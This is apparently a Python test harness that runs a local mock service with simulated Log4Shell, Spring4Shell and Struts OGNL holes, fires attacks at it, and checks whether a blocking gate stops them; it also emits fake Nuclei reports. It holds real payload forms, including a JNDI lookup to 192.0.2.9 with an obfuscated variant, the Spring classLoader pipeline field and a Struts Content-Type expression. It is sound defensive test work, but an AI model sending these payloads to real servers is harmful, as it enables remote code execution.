#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""A service with known holes, and those who use it: for hub-holds.sh.

	hub-holds.py serve PORT MARKS			the service: what a request makes it do is a file in the folder MARKS
	hub-holds.py attack URL KIND			one attack; prints works, stopped, or what else came of it
	hub-holds.py until works|stopped URL KIND S	attacks until it is so and stays so; prints after how many milliseconds, or "never"
	hub-holds.py watch SECONDS URL KIND... 		attacks without a pause; prints how many worked and were stopped
	hub-holds.py twins URL FILE			honest requests without a pause until SIGTERM; then how many, and what was not answered 200
	hub-holds.py report NAME KIND...		a report of a scanner (Nuclei, JSON lines) that found these holes there

The holes are of the kind that the rules of rules/gate/holds.conf hold, in the smallest form that does something: text that is logged is
evaluated (CVE-2021-44228), fields of a form reach the server's own objects (CVE-2022-22965), an error message is evaluated
(CVE-2017-5638). All that an attacker gains here is a file of his naming. MARKS of an attack are told by HOLDS_MARKS in the environment.
"""
import http.client
import http.server
import os
import random
import re
import signal
import socket
import sys
import time
import urllib.parse

# By the same words in hub-holds.sh.
HOLES = {
	"log": {"cve": "CVE-2021-44228", "title": "Apache Log4j2 - Remote Code Injection"},
	"form": {"cve": "CVE-2022-22965", "title": "Spring - Remote Code Execution"},
	"error": {"cve": "CVE-2017-5638", "title": "Apache Struts 2 - Remote Command Execution"},
}
IN_A_ROW = 30
STEADY_S = 1.5  # workers of the web server take a list one after the other
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"

# ---- The service ----


class Logger:
	"""Evaluates ${...} in what it logs, from the inside out, as long as there is something."""

	def __init__(self, marks):
		self.marks = marks

	def look_up(self, match):
		word, _, rest = match.group(1).partition(":")
		if word in ("lower", "upper"):
			return getattr(rest, word)()
		if word == "jndi":
			self.load(rest)
		return ""

	def load(self, address):
		name = address.rsplit("/", 1)[-1]
		if re.fullmatch("[a-z0-9]+", name):
			open(os.path.join(self.marks, name), "w", encoding="ascii").close()

	def log(self, text):
		for _ in range(8):
			text, count = re.subn(r"\$\{([^${}]*)\}", self.look_up, text)
			if not count:
				return


class Pattern:
	"""The server's access log: its name is a property like any other."""

	def __init__(self, marks):
		self.__dict__["marks"] = marks

	def __setattr__(self, name, value):
		if re.fullmatch("[a-z0-9]+", value):
			open(os.path.join(self.marks, value), "w", encoding="ascii").close()


class Node:
	def __init__(self, **members):
		self.__dict__.update(members)


class Service(http.server.BaseHTTPRequestHandler):
	protocol_version = "HTTP/1.1"
	marks = ""

	def bind(self, form, body):
		"""Fields with dots walk through the objects."""
		for name, value in urllib.parse.parse_qsl(body):
			at, *path = [form] + name.split(".")
			for step in path[:-1]:
				at = getattr(at, step, None)
			if at is not None:
				setattr(at, path[-1], value)

	def answer(self):
		logger = Logger(self.marks)
		body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode("utf-8", "replace")
		kind = self.headers.get("Content-Type") or ""
		logger.log(urllib.parse.unquote_plus(self.path))
		for value in self.headers.values():
			logger.log(value)
		if kind.startswith("application/x-www-form-urlencoded"):
			pipeline = Node(first=Pattern(self.marks))
			loader = Node(resources=Node(context=Node(parent=Node(pipeline=pipeline))))
			setattr(form := Node(), "class", Node(module=Node(classLoader=loader)))
			self.bind(form, body)
		if "multipart/form-data" in kind and not kind.startswith("multipart/"):
			for name in re.findall(r"%\{.*?#\w+='([a-z0-9]+)'", kind):
				logger.load("/" + name)
		text = b"<p>Xin ch\xc3\xa0o</p>\n"
		self.send_response(200)
		self.send_header("Content-Type", "text/html; charset=utf-8")
		self.send_header("Content-Length", str(len(text)))
		self.end_headers()
		self.wfile.write(text)

	do_GET = do_POST = answer

	def log_message(self, *_):
		pass


def serve(port, marks):
	Service.marks = marks
	server = http.server.ThreadingHTTPServer(("127.0.0.1", int(port)), Service)
	server.daemon_threads = True
	server.serve_forever()


# ---- Requests ----


def request(url, method, path, headers, body=None):
	"""From an address of its own each time: who has attacked once is no stranger. Returns the status; 0 without an answer."""
	place = urllib.parse.urlsplit(url)
	source = "45.1.%d.%d" % (random.randrange(1, 250), random.randrange(1, 250))
	connection = http.client.HTTPConnection(place.hostname, place.port or 80, timeout=5, source_address=(source, 0))
	try:
		connection.request(method, path, body, {"User-Agent": BROWSER, "Accept": "*/*", **headers})
		answer = connection.getresponse()
		answer.read()
		return answer.status
	except (OSError, http.client.HTTPException):
		return 0
	finally:
		connection.close()


def attack_log(url, mark):
	value = random.choice(["${jndi:ldap://192.0.2.9/%s}", "${${lower:j}ndi:ldap://192.0.2.9/%s}"]) % mark
	return request(url, "GET", "/tim-kiem", {"X-Api-Version": value})


def attack_form(url, mark):
	body = "class.module.classLoader.resources.context.parent.pipeline.first.pattern=" + mark
	return request(url, "POST", "/dang-ky", {"Content-Type": "application/x-www-form-urlencoded"}, body)


def attack_error(url, mark):
	return request(url, "POST", "/index.action", {"Content-Type": "%%{(#luytre='%s').(#x='multipart/form-data')}" % mark}, "a=1")


def attack(url, kind):
	marks = os.environ["HOLDS_MARKS"]
	mark = "m%016x" % random.getrandbits(64)
	path = os.path.join(marks, mark)
	status = globals()["attack_" + kind](url, mark)
	done = os.path.exists(path)
	if done:
		os.unlink(path)
	if done and status == 200:
		return "works"
	return "stopped" if status == 403 and not done else "status %d, %s" % (status, "done" if done else "not done")


def until(wanted, url, kind, seconds):
	began = since = time.monotonic()
	row = 0
	while row < IN_A_ROW or time.monotonic() - since < STEADY_S:
		if time.monotonic() - began > float(seconds):
			return "never"
		if attack(url, kind) == wanted:
			since = since if row else time.monotonic()
			row += 1
		else:
			row = 0
		time.sleep(0.01)
	return "%d" % ((since - began) * 1000)


def watch(seconds, url, kinds):
	counts = {}
	end = time.monotonic() + float(seconds)
	while time.monotonic() < end:
		for kind in kinds:
			outcome = attack(url, kind)
			counts[outcome] = counts.get(outcome, 0) + 1
	return " ".join("%s %d" % pair for pair in sorted(counts.items()))


TWINS = (
	("GET", "/tim-kiem?q=%24%7Buser.name%7D+l%C3%A0+g%C3%AC%3F&t=jndi%3A+t%C3%A0i+li%E1%BB%87u", {"X-Api-Version": "${build}"}, None),
	("POST", "/dang-ky", {"Content-Type": "application/x-www-form-urlencoded"},
		"class=10A1&module=toan&loader=khong&hoTen=Nguy%E1%BB%85n+V%C4%83n+An"),
	("POST", "/index.action", {"Content-Type": "multipart/form-data; boundary=----luytre7f3a"},
		"------luytre7f3a\r\nContent-Disposition: form-data; name=\"upload\"; filename=\"don.pdf\"\r\n\r\n%PDF-1.4\r\n------luytre7f3a--\r\n"),
	("GET", "/", {}, None),
)


def twins(url, place):
	counts = {}
	ended = []
	signal.signal(signal.SIGTERM, lambda *_: ended.append(True))
	while not ended:
		for twin in TWINS:
			status = request(url, *twin)
			counts[status] = counts.get(status, 0) + 1
		time.sleep(0.02)
	with open(place, "w", encoding="ascii") as out:
		out.write("asked %d refused %d\n" % (sum(counts.values()), sum(counts.values()) - counts.get(200, 0)))


# ---- What a scanner would say ----


def report(name, kinds):
	import json
	now = time.strftime("%Y-%m-%dT%H:%M:%S.000000+00:00", time.gmtime())
	for kind in kinds:
		hole = HOLES[kind]
		print(json.dumps({"template-id": hole["cve"], "info": {"name": hole["title"], "severity": "critical",
			"classification": {"cve-id": [hole["cve"].lower()], "cvss-metrics": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H",
				"cvss-score": 10}}, "type": "http", "host": name, "matched-at": "http://%s/" % name, "ip": name,
			"timestamp": now, "matcher-status": True}))


def main():
	verb, *words = sys.argv[1:]
	socket.setdefaulttimeout(5)
	if verb == "serve":
		serve(*words)
	elif verb == "attack":
		print(attack(*words))
	elif verb == "until":
		print(until(*words))
	elif verb == "watch":
		print(watch(words[0], words[1], words[2:]))
	elif verb == "twins":
		twins(*words)
	elif verb == "report":
		report(words[0], words[1:])
	else:
		sys.exit(__doc__)


main()
